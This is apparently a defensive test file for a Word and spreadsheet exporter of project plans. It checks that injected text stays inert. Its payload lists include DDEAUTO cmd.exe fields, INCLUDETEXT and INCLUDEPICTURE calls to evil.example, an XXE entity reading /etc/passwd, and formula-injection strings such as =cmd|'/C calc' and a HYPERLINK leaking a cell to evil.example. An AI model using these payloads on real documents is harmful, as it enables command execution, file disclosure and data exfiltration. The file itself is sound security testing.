import { strFromU8, unzipSync } from 'fflate'
import { describe, expect, test } from 'vitest'
import { afwerxTable } from '../domain/plan-forms/afwerx-table.ts'
import { armyTwoPages } from '../domain/plan-forms/army-two-pages.ts'
import { dafDirect } from '../domain/plan-forms/daf-direct.ts'
import { withNarratives } from '../domain/plan-forms/narrative-sections.ts'
import { fiveColumns } from '../domain/plan-forms/plan-columns.ts'
import { bareStep } from '../domain/work-breakdown/work-breakdown.ts'
import { usualPlan } from './testing/plans.ts'
import { wordForm } from './word-form.ts'
import { cellText } from './workbook/cell-text.ts'
import { planWorkbook } from './workbook/plan-workbook.ts'

/** What somebody puts into a document or an answer so that a program does something with it: each has a word by which it is found again. */
const FIELDS = [
  '{ INCLUDETEXT "\\\\\\\\evil.example\\\\share\\\\Quibble.docx" }',
  '{ INCLUDEPICTURE "http://evil.example/Quibble.png" \\d }',
  '{ DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k Quibble" }',
  '{ HYPERLINK "file:///c:/Quibble" }',
  '</w:t></w:r><w:fldSimple w:instr="DDE Quibble"/><w:r><w:t>',
  '<w:instrText>QUOTE Quibble</w:instrText>',
  '<w:hyperlink r:id="rId1">Quibble</w:hyperlink>',
  '<Relationship Target="http://evil.example/Quibble" TargetMode="External"/>',
  '<w:altChunk r:id="Quibble"/>',
  '<!DOCTYPE x [<!ENTITY Quibble SYSTEM "file:///etc/passwd">]>&Quibble;',
  ']]><Quibble xmlns:xi="http://www.w3.org/2001/XInclude"/>',
  '\u0013 DDEAUTO Quibble \u0014 \u0015',
  '[Quibble](javascript:alert(1)) ![Quibble](file:///etc/passwd) <http://evil.example/Quibble>',
]
const FORMULAS = [
  '=HYPERLINK("http://evil.example/?"&A1,"Quibble")',
  "=cmd|'/C calc'!Quibble",
  "+cmd|'/C calc'!Quibble",
  "-2+3+cmd|'/C calc'!Quibble",
  "-5 dB+cmd|'/C calc'!Quibble",
  '@SUM(Quibble)',
  '\t=Quibble()',
  '\r=Quibble()',
  '\n=Quibble()',
  '\u0001 =Quibble()',
  '＝Quibble()',
  '</t></si><si><t>Quibble',
  '<f>Quibble</f>',
]

/** A plan that says this wherever it says anything. */
function planOf(text: string) {
  const plan = usualPlan(5)
  const milestones = plan.milestones.map((one) => ({
    ...one,
    refined_text: `${text}\n\n${text}\nTask 1.1: ${text}`,
    deliverables: [text],
    acceptance_criteria: [text],
  }))
  return { ...plan, company_name: text, customer_org: text, scope_paragraph: text, milestones }
}

function covered(text: string) {
  const requirement = {
    id: 'R1',
    text,
    kind: 'performance',
    strength: 'must',
    phase: 'I',
    page: 1,
    quote: text,
    quantities: [],
    set_by: 'reader',
  } as const
  const places = [{ milestone_number: 1, part: 'text' as const, quote: text }]
  const changed = [{ milestone_number: 1, part: 'text' as const, asked: text, told: text, quote: text }]
  return [
    {
      requirement: { ...requirement, quantities: [] },
      coverage: { requirement_id: 'R1', covered_by: [1], strength: 'partial' as const, places, changed },
      strength: 'partial' as const,
    },
  ]
}

async function partsOf(file: Promise<Blob>): Promise<[name: string, xml: string][]> {
  const parts = unzipSync(new Uint8Array(await (await file).arrayBuffer()))
  return Object.entries(parts).map(([name, bytes]) => [name, strFromU8(bytes)])
}

/** What makes a program fetch, run or open something; words stand in no tag. */
const ACTING =
  /^<(?:w:(?:fldSimple|hyperlink|altChunk|object|subDoc)|hyperlink|ddeLink|externalLink|oleObject|Quibble|!DOCTYPE|!ENTITY)\b|\bTargetMode=/

function acting(xml: string): string[] {
  return (xml.match(/<[^<>]*>/g) ?? []).filter((tag) => ACTING.test(tag))
}

const FORMS = { fiveColumns, dafDirect, armyTwoPages, afwerxTable }

describe.each(Object.entries(FORMS))('A Word document in the form %s', (_, form) => {
  test.each(FIELDS)('has %j as words and nothing else', async (text) => {
    const plan = planOf(text)
    const laidOut = form({ plan, topic_name: text, component: null, asked: covered(text) })
    const narratives = [
      {
        milestone_number: 1,
        title: text,
        narrative_md: `# ${text}\n\n${text}\n\n- ${text}\n\n| ${text} | a |\n|---|---|\n| b | c |`,
      },
    ]
    const parts = await partsOf(wordForm(withNarratives(laidOut, narratives), plan, text))
    const all = parts.map(([, xml]) => xml).join('\n')
    expect(all.includes('Quibble')).toBe(true)
    // the only fields are those of the foot: on which page, of how many
    const fields = Array.from(all.matchAll(/<w:instrText[^>]*>([^<]*)/g), ([, words]) => words)
    expect([...new Set(fields)].sort()).toEqual(['NUMPAGES', 'PAGE'])
    expect(acting(all)).toEqual([])
    expect(all.includes('\u0013')).toBe(false)
    for (const [name, xml] of parts.filter(([name]) => name.endsWith('.rels'))) {
      const targets = Array.from(xml.matchAll(/Target="([^"]*)"/g), ([, target = '']) => target)
      expect(
        targets.filter((target) => /[:\\]/.test(target)),
        name,
      ).toEqual([])
    }
  })
})

test.each([...FORMULAS, ...FIELDS])('a spreadsheet has %j as words and nothing else', async (text) => {
  const steps = [
    bareStep('s1', {
      action: text,
      method: text,
      tools: text,
      people: [text],
      lead: text,
      place: text,
      result: text,
      proof: [{ quantity: text, value: text }],
    }),
  ]
  const people = [{ id: 'p1', name: text, role: text, employer: text, hours: text }]
  const parts = await partsOf(
    planWorkbook({ plan: planOf(text), award: 14_000_000, research_institution: text, rows: { steps, people }, covered: covered(text) }),
  )
  const all = parts.map(([, xml]) => xml).join('\n')
  expect(all.includes('Quibble')).toBe(true)
  const formulas = Array.from(all.matchAll(/<f[ >][^<]*/g), ([formula]) => formula)
  expect(formulas.length).toBeGreaterThan(0)
  expect(formulas.filter((formula) => /Quibble|cmd|HYPERLINK/.test(formula))).toEqual([])
  expect(acting(all)).toEqual([])
  const shared = Array.from(all.matchAll(/<t[ >][^<]*/g), ([cell]) => cell.replace(/^<t[^>]*>/, ''))
  expect(shared.filter((cell) => /^[\s\p{Cc}]*[=+\-@＝＋－＠]/u.test(cell))).toEqual([])
})

test.each(['-5 dB', '+10 %', '-40 °C', '-0.5', '+3,000 ft and above', '5 dB', '‑5 dB', 'a = b'])(
  '%j stands in a cell as it was written',
  (text) => {
    expect(cellText(text)).toBe(text)
  },
)

test.each(['-5 dB+A1', '-1-1', '+1(2)', '-5 dB|x', "-5 'x'!A1", '- Build it', '-A1'])(
  '%j could be computed, and is marked as words',
  (text) => {
    expect(cellText(text)).toBe(`'${text}`)
  },
)
